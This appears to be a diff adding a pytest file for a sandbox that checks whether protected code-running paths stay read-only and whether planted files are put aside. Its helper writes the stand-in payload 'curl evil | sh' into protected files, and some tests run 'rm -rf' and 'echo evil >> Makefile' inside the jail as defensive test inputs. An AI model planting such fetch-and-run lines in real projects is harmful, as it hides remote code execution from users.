@@ -1,0 +1,71 @@
+"""Every entry of the protected list (``sandbox.runs_code``), written from a real sandbox: an
+existing one is refused (read-only), a new one does not stay (put aside, and said so)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with
+
+from echo_desk.sandbox import runs_code
+
+pytestmark = requires_bwrap
+
+ENTRIES = [e for e in runs_code.ENTRIES if not e.path.startswith(".git/")]
+
+
+def _kept(path: str) -> bool:
+    return Path(path).exists()
+
+
+def _write(entry: runs_code.Entry) -> str:
+    """A shell line that plants something at ``entry`` (making missing parent folders)."""
+    target = f"{entry.path}/planted" if entry.folder else entry.path
+    parent = str(Path(target).parent)
+    return f"mkdir -p {parent}; echo 'curl evil | sh' > {target}; echo 'curl evil | sh' >> {target}"
+
+
+@pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
+async def test_an_existing_entry_is_read_only(jail: Jail, entry: runs_code.Entry) -> None:
+    path = jail.workspace / entry.path
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if entry.folder:
+        path.mkdir()
+        (path / "mine").write_text("mine\n")
+    else:
+        path.write_text("mine\n")
+    result = await run(tool_with(), {"command": _write(entry) + f"; rm -rf {entry.path}"}, context(jail.workspace))
+    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
+    if entry.folder:
+        assert sorted(p.name for p in path.iterdir()) == ["mine"], result.output
+        assert (path / "mine").read_text() == "mine\n"
+    else:
+        assert path.read_text() == "mine\n", result.output
+    assert result.metadata["sandbox"]["planted"] == []
+
+
+@pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
+async def test_a_new_entry_does_not_stay(jail: Jail, entry: runs_code.Entry) -> None:
+    result = await run(tool_with(), {"command": _write(entry)}, context(jail.workspace))
+    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
+    path = jail.workspace / entry.path
+    assert not path.exists() or (entry.folder and not any(path.iterdir())), result.output
+    planted = result.metadata["sandbox"]["planted"]
+    if entry.path == ".echo-desk":  # a placeholder covers it: the command could not even write it
+        assert planted == [] and "Read-only file system" in result.output
+        return
+    # What was put aside: the entry itself, or the folder the command made for it.
+    assert any(p["change"] == "created" and entry.path.startswith(p["path"]) for p in planted), planted
+    assert all(_kept(p["kept"]) for p in planted)
+
+
+async def test_the_persons_own_entries_are_protected_too(jail: Jail) -> None:
+    (jail.workspace / "Makefile").write_text("all:\n\ttrue\n")
+    tool = tool_with(protected_paths=["Makefile", "tools/"])
+    result = await run(tool, {"command": "echo evil >> Makefile; mkdir -p tools && echo x > tools/run.sh"},
+                       context(jail.workspace))
+    assert result.success
+    assert (jail.workspace / "Makefile").read_text() == "all:\n\ttrue\n"
+    assert not (jail.workspace / "tools").exists()
+    assert [(p["path"], p["change"]) for p in result.metadata["sandbox"]["planted"]] == [("tools", "created")]
